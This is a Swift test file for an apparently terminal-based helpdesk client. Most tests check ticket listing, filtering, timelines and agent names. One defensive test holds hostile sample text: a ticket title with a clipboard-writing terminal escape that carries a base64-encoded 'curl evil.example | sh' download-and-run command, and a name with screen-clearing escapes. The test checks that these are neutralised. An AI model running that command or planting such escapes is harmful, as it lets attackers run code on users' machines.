import DemoServer
import Foundation
import Testing
import TickettyCore

@testable import OmnideskBackend

/// Reading tickets and agents from the demo server over real HTTP on loopback.
@Suite struct LoopbackReadTests {
    @Test func listPagesThroughTheIndex() async throws {
        try await DemoDesk.with(ticketCount: 30) { desk in
            let first = try await desk.backend.listTickets(TicketQuery(start: 0, limit: 12))
            let second = try await desk.backend.listTickets(TicketQuery(start: 12, limit: 12))
            let third = try await desk.backend.listTickets(TicketQuery(start: 24, limit: 12))
            #expect(first.total == 30)
            #expect(first.start == 0)
            #expect(second.start == 12)
            #expect([first.tickets.count, second.tickets.count, third.tickets.count] == [Int]([12, 12, 6]))
            let ids = (first.tickets + second.tickets + third.tickets).map(\.id)
            #expect(Set(ids).count == 30)
            #expect(first.tickets.allSatisfy { !$0.title.isEmpty && !$0.customerAddress.isEmpty })
        }
    }

    @Test func listFiltersByStatus() async throws {
        try await DemoDesk.with(ticketCount: 30) { desk in
            let all = try await desk.backend.listTickets(TicketQuery(limit: 100))
            let status = try #require(all.tickets.first?.status)
            let filtered = try await desk.backend.listTickets(TicketQuery(limit: 100, status: status))
            #expect(!filtered.tickets.isEmpty)
            #expect(filtered.tickets.allSatisfy { $0.status == status })
            #expect(filtered.total == all.tickets.filter { $0.status == status }.count)
        }
    }

    @Test func detailHasATimeOrderedTimelineAndTeachesNames() async throws {
        try await DemoDesk.with { desk in
            let page = try await desk.backend.listTickets(TicketQuery(limit: 30))
            let listed = try #require(page.tickets.first { $0.assignedGroup != nil })
            let detail = try await desk.backend.ticket(listed.id)
            #expect(detail.ticket.id == listed.id)
            #expect(detail.ticket.title == listed.title)
            #expect(!detail.timeline.isEmpty)
            #expect(detail.timeline.map(\.createdAt) == detail.timeline.map(\.createdAt).sorted())
            #expect(!detail.assignableGroups.isEmpty)
            #expect(!detail.assignableAgents.isEmpty)
            // After the detail, the index names the group instead of "Group N".
            let group = try #require(detail.ticket.assignedGroup)
            #expect(detail.assignableGroups.contains(group))
            let again = try await desk.backend.listTickets(TicketQuery(limit: 30))
            #expect(again.tickets.first { $0.id == listed.id }?.assignedGroup == group)
        }
    }

    @Test func theFirstListAlreadyNamesGroupsAndAgents() async throws {
        try await DemoDesk.with(ticketCount: 30) { desk in
            let page = try await desk.backend.listTickets(TicketQuery(limit: 30))
            let groups = page.tickets.compactMap(\.assignedGroup)
            let agents = page.tickets.compactMap(\.assignedAgent)
            #expect(!groups.isEmpty && !agents.isEmpty)
            #expect(groups.allSatisfy { !$0.name.hasPrefix("Group ") }, "\(groups.map(\.name))")
            #expect(agents.allSatisfy { !$0.name.hasPrefix("Agent ") }, "\(agents.map(\.name))")
        }
    }

    @Test func agentsAreListed() async throws {
        try await DemoDesk.with { desk in
            let agents = try await desk.backend.agents()
            #expect(!agents.isEmpty)
            #expect(Set(agents.map(\.id)).count == agents.count)
            #expect(agents.allSatisfy { !$0.name.isEmpty && !$0.name.hasPrefix("Agent ") })
        }
    }

    @Test func hostileServerTextIsSanitised() async throws {
        try await DemoDesk.with(ticketCount: 10, hostileSamples: true) { desk in
            let page = try await desk.backend.listTickets(TicketQuery(limit: 9999))
            let isControl: (Unicode.Scalar) -> Bool = {
                $0.value < 0x20 || (0x7F..<0xA0).contains($0.value) || $0.value == 0x202E
            }
            // The samples arrived, defused: escapes shown as "^[" instead of acted on.
            #expect(page.tickets.contains { $0.title == "Invoice overdue ^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^Gplease pay" })
            #expect(page.tickets.contains { $0.customerName == "Mallory^[[2J Evil^[[H" })
            for ticket in page.tickets {
                for text in [ticket.title, ticket.customerName, ticket.customerAddress, ticket.channel] + ticket.tags {
                    #expect(!text.unicodeScalars.contains(where: isControl), "ticket \(ticket.id)")
                }
                let detail = try await desk.backend.ticket(ticket.id)
                for entry in detail.timeline {
                    #expect(!entry.author.unicodeScalars.contains(where: isControl))
                    if case .text(let text) = entry.body { #expect(!text.unicodeScalars.contains(where: isControl)) }
                }
            }
        }
    }
}
